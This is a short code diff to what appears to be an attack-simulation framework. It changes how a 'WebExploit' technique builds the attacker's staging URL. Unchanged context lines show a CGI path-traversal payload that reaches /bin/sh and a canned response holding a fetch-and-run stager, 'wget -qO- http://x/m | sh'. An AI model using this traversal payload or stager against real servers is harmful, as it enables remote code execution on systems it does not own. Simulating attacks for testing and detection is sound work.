@@ -17,6 +17,7 @@ from scenarios.techniques.base import (
     Technique,
     TechniqueParams,
     address_sco,
+    url_host,
 )
 
 
@@ -43,7 +44,7 @@ class WebExploit(Technique):
         port = ctx.target.services.get("http", 80)
         host = ctx.target.name_or_ip
         shell = "/cgi-bin/" + ".%2e/" * params.depth + "bin/sh"
-        stage_url = f"http://{ctx.attacker.name_or_ip}{params.stage_path}"
+        stage_url = f"http://{url_host(ctx.attacker.ip)}{params.stage_path}"
 
         def run_in_shell(script: str) -> bytes:
             """The exploit request: ``script`` posted to /bin/sh through the traversal."""
@@ -84,7 +85,10 @@ class WebExploit(Technique):
             [
                 (
                     http_request(
-                        "GET", params.stage_path, ctx.attacker.name_or_ip, user_agent="curl/7.88.1"
+                        "GET",
+                        params.stage_path,
+                        url_host(ctx.attacker.ip),
+                        user_agent="curl/7.88.1",
                     ),
                     http_response(
                         200, b"#!/bin/sh\nwget -qO- http://x/m | sh\n", content_type="text/x-sh"
